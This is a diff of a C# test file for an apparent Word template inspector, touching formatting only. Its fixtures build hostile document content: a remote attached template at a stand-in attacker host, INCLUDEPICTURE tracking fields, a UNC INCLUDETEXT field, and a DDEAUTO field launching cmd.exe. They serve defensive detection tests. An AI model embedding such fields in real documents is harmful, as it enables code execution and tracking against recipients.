@@ -1,7 +1,7 @@
 using System.IO.Compression;
 using System.Text;
-using FactFunctions.Reports;
 using FactFunctions.Boards;
+using FactFunctions.Reports;
 using FactFunctions.Reports.Word;
 
 namespace FactFunctions.Core.Tests.Reports;
@@ -160,7 +160,8 @@ public class TemplateInspectorTests
                 AddRelationship(zip, "word/_rels/settings.xml.rels", "rIdAttached", Relationships + "/attachedTemplate", "https://attacker.example/evil.dotm", " External");
                 break;
             case "includepicture-simple-field":
-                InsertInBody(zip, $"<w:p {Namespaces}><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
+                InsertInBody(zip,
+                    $"<w:p {Namespaces}><w:fldSimple w:instr=\" INCLUDEPICTURE &quot;https://tracker.example/p.png&quot; \\d \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>");
                 break;
             case "includetext-unc-complex-field-split":
                 InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> INCL</w:instrText></w:r>" +
@@ -168,12 +169,15 @@ public class TemplateInspectorTests
                     "<w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                 break;
             case "ddeauto-field":
-                InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>" +
+                InsertInBody(zip,
+                    $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO " +
+                        $"c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>" +
                     "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                 break;
             case "nested-include-in-if-field":
                 InsertInBody(zip, $"<w:p {Namespaces}><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>IF 1 = 1 \"</w:instrText></w:r>" +
-                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>includepicture \"https://tracker.example/p.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>" +
+                    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>includepicture " +
+                        "\"https://tracker.example/p.png\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>" +
                     "<w:r><w:instrText>\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>");
                 break;
             case "file-hyperlink-field":
@@ -278,7 +282,8 @@ public class TemplateInspectorTests
             ? "<?xml version=\"1.0\" encoding=\"utf-8\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"></Relationships>"
             : Read(zip, relsPart);
         string mode = targetMode is null ? string.Empty : $" TargetMode=\"{targetMode}\"";
-        Write(zip, relsPart, rels.Replace("</Relationships>", $"<Relationship Id=\"{id}\" Type=\"{type}\" Target=\"{System.Security.SecurityElement.Escape(target)}\"{mode}/></Relationships>", StringComparison.Ordinal));
+        Write(zip, relsPart, rels.Replace("</Relationships>", $"<Relationship Id=\"{id}\" Type=\"{type}\" Target=\"{System.Security.SecurityElement
+            .Escape(target)}\"{mode}/></Relationships>", StringComparison.Ordinal));
     }
 
     private static void AddPart(ZipArchive zip, string name, string contentType, string content)
